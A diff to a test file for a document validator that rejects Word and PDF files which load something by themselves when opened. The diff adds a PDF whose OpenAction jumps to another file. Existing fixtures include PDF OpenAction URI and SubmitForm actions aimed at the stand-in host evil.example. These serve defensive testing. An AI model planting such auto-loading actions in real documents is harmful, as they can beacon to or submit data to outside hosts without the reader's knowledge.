@@ -53,6 +53,14 @@ describe('a file that loads something by itself is refused (docs/files 28)', () 
     ['a b.png', word(field(' INCLUDEPICTURE "C:\\\\My%20Pictures\\\\a%20b.png" \\d '))],
     ['evil.example', pdfOf([catalogue('/OpenAction<</S/URI/URI(https://evil.example/a)>>'), pages])],
     ['evil.example', pdfOf([catalogue(), pages, '<</S/SubmitForm/F<</FS/URL/F(http://evil.example/a)>>>>'])],
+    [
+      'other.pdf',
+      pdfOf([
+        catalogue('/OpenAction 3 0 R'),
+        pages,
+        '<</S/GoToR/F<FEFF006F0074006800650072002E007000640066>/D[0/Fit]>>',
+      ]),
+    ],
   ])('by name: %s', async (host, content) => {
     await expect(judgeContent(bytesOf(content))).rejects.toThrow(
       `This document loads ${host} when it is opened. Remove the link and save it again.`,
